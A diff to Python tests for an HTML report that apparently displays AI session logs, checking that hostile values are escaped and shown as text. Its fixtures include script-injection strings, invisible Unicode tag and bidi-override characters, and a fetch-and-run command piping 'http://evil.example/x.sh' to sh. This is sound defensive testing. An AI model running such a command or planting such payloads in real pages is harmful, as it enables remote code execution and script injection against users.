@@ -44,9 +44,11 @@ def test_payloads_are_shown_as_text(hostile: dict[str, Any]) -> None:
     assert "&lt;img src=x onerror=alert(&#39;img&#39;)&gt;" in page
     assert "<script>alert" not in page
     # Hidden characters are shown, not obeyed: the RTL override, an escape, a NUL, a zero-width space.
-    for ch in ("\u202e", "\x1b", "\x00", "\u200b", "\x07"):
+    for ch in ("\u202e", "\x1b", "\x00", "\u200b", "\x07", "\U000e0069"):
         assert ch not in page
     assert "\\u202e" in page and "\\u001b[31m" in page and "\\u200b" in page
+    # Tag characters (invisible text) are spelled out, one escape each.
+    assert "tagged\\U000e0069\\U000e0067\\U000e006e\\U000e006f\\U000e0072\\U000e0065" in page
     # The risky command reached the security table, redacted summary and all, as text.
     assert "remote code fetch exec" in page and "http://evil.example/x.sh | sh" in page
     assert CMD not in page and PROMPT not in page  # never raw
@@ -70,6 +72,21 @@ def test_embedded_data_round_trips_hostile_values(hostile: dict[str, Any]) -> No
     assert odd["key"].startswith("_")  # the hostile id got a safe file name
     assert SID not in json.dumps(data)  # ids are not in the data block; the table shows them as text
     assert "&lt;script&gt;alert(&#39;sid&#39;)&lt;/script&gt;" in raw
+
+
+def test_filter_menu_labels_hold_no_hidden_character(hostile: dict[str, Any]) -> None:
+    """A model or folder with a bidi override, a zero-width or a tag character is labelled escaped in the
+    filter menus and chart legends; the value the filter matches stays exact."""
+    data = embedded(parse(hostile["report"] / "index.html"))
+    labels = data["labels"]
+    shown = "m\\u200b\\u202e\\U000e0041</script><script>alert('model')</script>"
+    hostile_models = {s["m"] for s in data["sessions"] if s["m"].endswith(MODEL)}
+    assert len(hostile_models) == 2 and all(labels[m] == m[: -len(MODEL)] + shown for m in hostile_models)
+    values = {s[k] for s in data["sessions"] for k in ("h", "m", "r", "d")} | {u[1] for s in data["sessions"] for u in s["u"]}
+    for v in values:
+        shown = labels.get(v, v)
+        assert shown.isprintable() and not any(0xE0000 <= ord(c) <= 0xE007F for c in shown), repr(v)
+        assert not any(c in shown for c in "\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"), repr(v)
 
 
 def test_the_50mb_line_is_collapsed_and_not_cut_silently(hostile: dict[str, Any]) -> None:
